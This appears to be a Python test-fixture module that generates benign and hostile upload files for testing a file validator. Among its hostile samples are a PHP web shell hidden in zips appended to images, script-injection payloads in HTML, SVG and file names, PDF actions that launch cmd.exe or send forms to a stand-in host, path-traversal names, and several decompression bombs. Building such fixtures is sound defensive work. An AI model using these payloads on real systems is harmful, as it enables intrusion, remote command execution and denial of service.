"""Files made for the tests: honest ones by the libraries that read them, and hostile ones."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAGE = b"%PDF-1.4\n%%EOF"
WEB_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def picture(form="PNG", size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, form, **options)
    return out.getvalue()


def pdf(change=None, **save):
    """A letter of one page; `change(pdf)` makes it something else."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 400))
    made.pages[0].Contents = Stream(made, b"0.5 g 50 50 200 300 re f")
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def opens_with(**action):
    """A PDF that does something when it is opened."""
    return pdf(lambda made: made.Root.__setattr__("OpenAction", Dictionary(**action)))


def on_page(**annotation):
    """A PDF with something to press on its page."""

    def change(made):
        common = {"Type": Name.Annot, "Rect": Array([0, 0, 100, 100])}
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(**common | annotation))])

    return pdf(change)


def with_attachment(made):
    made.attachments["invoice.exe"] = b"MZ\x90\x00 a program"


def with_form(**entries):
    return pdf(lambda made: made.Root.__setattr__("AcroForm", Dictionary(Fields=Array(), **entries)))


def with_external_stream(made):
    stream = Stream(made, b"")
    stream.F = String("file:///etc/passwd")
    made.pages[0].Contents = stream


def with_open_action_in_page(made):
    action = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    made.pages[0].obj.AA = action


def with_named_script(made):
    names = Array([String("x"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def locked(password):
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def zipped(content=b"<?php system($_GET['c']);"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("shell.php", content)
    return out.getvalue()


def chunk(kind, data):
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))


def png(width, height, *more, data=b"\0"):
    """A PNG by hand, which may say of itself what is not so."""
    header = chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def animated(form):
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, form, save_all=True, append_images=frames[1:])
    return out.getvalue()


def gif_bomb():
    """A GIF of a few bytes that says that it is 65,535 pixels wide and high."""
    whole = bytearray(picture("GIF", (1, 1), "L"))
    whole[6:10] = struct.pack("<HH", 65535, 65535)
    return bytes(whole)


def jpeg_of(width, height):
    """A small JPEG that says that it is much larger."""
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack("!HH", height, width)
    return bytes(whole)


def broken_cmyk():
    whole = bytearray(picture("JPEG", mode="CMYK"))
    start = whole.index(b"\xff\xc4") + 4
    whole[start : start + 300] = b"\xfe" * 300
    return bytes(whole)


def stream_bomb():
    """A PDF whose list of objects is a stream of 3 GB of nothing, pressed twice.

    Only the first megabyte is pressed: a full flush after it makes each of the others come out as the same bytes.
    """
    size, press = 3 * 1024, zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    megabyte = press.compress(b"\0" * (1 << 20)) + press.flush(zlib.Z_FULL_FLUSH)
    checksum = ((size << 20) % 65_521 << 16) + 1  # Adler-32 of nothing but noughts
    once = b"\x78\xda" + megabyte * size + press.flush() + checksum.to_bytes(4, "big")
    twice = zlib.compress(once, 9)
    head = b"%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 3/W[1 4 2]/Root 2 0 R/Filter[/FlateDecode/FlateDecode]/Length "
    start = len(b"%PDF-1.5\n")
    body = head + str(len(twice)).encode() + b">>\nstream\n" + twice + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF" % start


def heic():
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200


def svg():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


HONEST_PNG, HONEST_JPEG, HONEST_PDF = picture(), picture("JPEG"), pdf()
GO_SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
FILE_OF = Dictionary(Type=Name.Filespec, F=String("//evil.example/share"))

# What it is → (name of the file, its bytes).
HOSTILE = {
    "empty": ("scan.pdf", b""),
    "empty picture": ("scan.png", b""),
    "web page as PDF": ("letter.pdf", WEB_PAGE),
    "web page as picture": ("picture.png", WEB_PAGE),
    "web page before a PDF": ("letter.pdf", WEB_PAGE + HONEST_PDF),
    "SVG with a script": ("drawing.svg", svg()),
    "SVG with a script as picture": ("drawing.png", svg()),
    "program as PDF": ("letter.pdf", b"MZ\x90\x00" + b"\0" * 500),
    "program as picture": ("picture.jpg", b"\x7fELF" + b"\0" * 500),
    "EICAR": ("eicar.pdf", EICAR),
    "zip bomb": ("archive.pdf", zipped(b"\0" * 20_000_000)),
    "word processor's file": ("letter.docx", zipped(b"<w:document/>")),
    "magic of a picture and nothing else": ("picture.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100),
    "magic of a PDF and nothing else": ("letter.pdf", PAGE),
    "picture with the name of a PDF": ("letter.pdf", HONEST_PNG),
    "PDF with the name of a picture": ("picture.png", HONEST_PDF),
    "two endings": ("picture.php.jpg", HONEST_JPEG),
    "an ending that runs": ("letter.pdf.exe", HONEST_PDF),
    "no ending": ("letter", HONEST_PDF),
    "path in the name": ("../../../etc/passwd", HONEST_PDF),
    "path of Windows in the name": ("..\\..\\windows\\system.ini", HONEST_PNG),
    "300 characters": ("a" * 300 + ".pdf", HONEST_PDF),
    "NUL in the name": ("letter.php\0.pdf", HONEST_PDF),
    "name that reads backwards": ("letter\u202efdp.exe", HONEST_PDF),
    "markup in the name": ('"><script>alert(1)<.pdf', HONEST_PDF),
    "cut off PNG": ("picture.png", HONEST_PNG[: len(HONEST_PNG) // 2]),
    "cut off JPEG": ("picture.jpg", HONEST_JPEG[: len(HONEST_JPEG) // 2]),
    "cut off PDF": ("letter.pdf", HONEST_PDF[: len(HONEST_PDF) // 2]),
    "PNG that ends and has no middle": ("picture.png", HONEST_PNG[:60] + HONEST_PNG[-12:]),
    "JPEG that ends and has no middle": ("picture.jpg", HONEST_JPEG[:300] + b"\xff\xd9"),
    "PNG and a zip": ("picture.png", HONEST_PNG + zipped()),
    "JPEG and a zip": ("picture.jpg", HONEST_JPEG + zipped()),
    "PDF and a zip": ("letter.pdf", HONEST_PDF + zipped()),
    "PNG flood of pixels": ("picture.png", png(60_000, 60_000)),
    "JPEG flood of pixels": ("picture.jpg", jpeg_of(65_000, 65_000)),
    "PNG of a thin line": ("picture.png", png(2_000_000_000, 1)),
    "GIF bomb": ("picture.gif", gif_bomb()),
    "GIF bomb as PNG": ("picture.png", gif_bomb()),
    "GIF that moves": ("picture.gif", animated("GIF")),
    "PNG that moves": ("picture.png", animated("PNG")),
    "TIFF": ("scan.tiff", picture("TIFF")),
    "TIFF as JPEG": ("scan.jpg", picture("TIFF")),
    "BMP as PNG": ("scan.png", picture("BMP")),
    "HEIC": ("IMG_0001.heic", heic()),
    "HEIC as JPEG": ("IMG_0001.jpg", heic()),
    "CMYK JPEG with a broken table": ("picture.jpg", broken_cmyk()),
    "JPEG with a colour profile of 2 MB": ("picture.jpg", picture("JPEG", icc_profile=b"\1" * 2_000_000)),
    "PNG with a colour profile that swells": (
        "picture.png",
        png(1, 1, chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 80_000_000)), data=b"\0\0\0\0"),
    ),
    "PNG with text that swells": (
        "picture.png",
        png(1, 1, chunk(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 80_000_000)), data=b"\0\0\0\0"),
    ),
    "PNG with a wrong sum": ("picture.png", HONEST_PNG[:29] + b"\0\0\0\0" + HONEST_PNG[33:]),
    "PDF that runs a script": ("letter.pdf", opens_with(**GO_SCRIPT)),
    "PDF with a named script": ("letter.pdf", pdf(with_named_script)),
    "PDF with a script on its page": ("letter.pdf", pdf(with_open_action_in_page)),
    "PDF with a script to press": ("letter.pdf", on_page(Subtype=Name.Link, A=Dictionary(**GO_SCRIPT))),
    "PDF that launches": ("letter.pdf", opens_with(S=Name.Launch, F=String("cmd.exe"))),
    "PDF that opens another": ("letter.pdf", opens_with(S=Name.GoToR, F=FILE_OF, D=Array([0, Name.Fit]))),
    "PDF that sends a form": ("letter.pdf", on_page(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=FILE_OF))),
    "PDF that fetches data": ("letter.pdf", opens_with(S=Name.ImportData, F=FILE_OF)),
    "PDF with a file inside": ("letter.pdf", pdf(with_attachment)),
    "PDF with a film": ("letter.pdf", on_page(Subtype=Name.RichMedia)),
    "PDF with a form of XML": ("letter.pdf", with_form(XFA=String("<xdp:xdp/>"))),
    "PDF of files": ("letter.pdf", pdf(lambda made: made.Root.__setattr__("Collection", Dictionary(View=Name.T)))),
    "PDF with a stream from elsewhere": ("letter.pdf", pdf(with_external_stream)),
    "PDF with a password": ("letter.pdf", locked("secret")),
    "PDF with an owner's password": ("letter.pdf", locked("")),
    "PDF without pages": ("letter.pdf", pdf(lambda made: made.pages.__delitem__(0))),
    "PDF of 600 pages": ("letter.pdf", pdf(lambda made: [made.add_blank_page() for _ in range(600)])),
    "PDF that swells": ("letter.pdf", stream_bomb()),
    "more than 10 MB": ("letter.pdf", b"%PDF-1.4\n" + b"\0" * (10 * 1024 * 1024) + b"%%EOF"),
}
